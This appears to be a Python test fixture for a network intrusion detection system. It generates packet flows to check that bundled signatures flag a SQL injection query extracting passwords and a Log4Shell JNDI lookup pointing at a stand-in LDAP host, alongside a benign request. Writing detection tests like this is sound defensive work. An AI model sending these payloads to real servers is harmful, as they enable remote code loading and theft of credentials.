#!/usr/bin/python3
"""L7: offline mode without --rules inspects with the bundled signature set
(rules/rampart-web.rules, alert actions): a Log4Shell lookup in the
User-Agent and a UNION SELECT in the query are alerted and forwarded; an
ordinary request on another flow raises nothing.

flow A 198.18.0.10:40300 -> 198.18.1.20:80  GET /search?id=1' UNION SELECT password FROM users--
           User-Agent: ${jndi:ldap://198.18.1.99/a}
flow B 198.18.0.10:40301 -> 198.18.1.20:80  GET /index.html, curl User-Agent
"""
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", ".."))
from caselib import *  # noqa: E402,F403

attack = (b"GET /search?id=1%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1\r\n"
          b"Host: shop.test\r\nUser-Agent: ${jndi:ldap://198.18.1.99/a}\r\n\r\n")
ok = b"GET /index.html HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n"
a = tcp_session(C4, S4, 40300, 80, data_c=attack, data_s=b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
b = tcp_session(C4, S4, 40301, 80, data_c=ok, data_s=b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
pkts = [at(p, 0.001 * i) for i, p in enumerate(a + b)]
main_write(pkts)
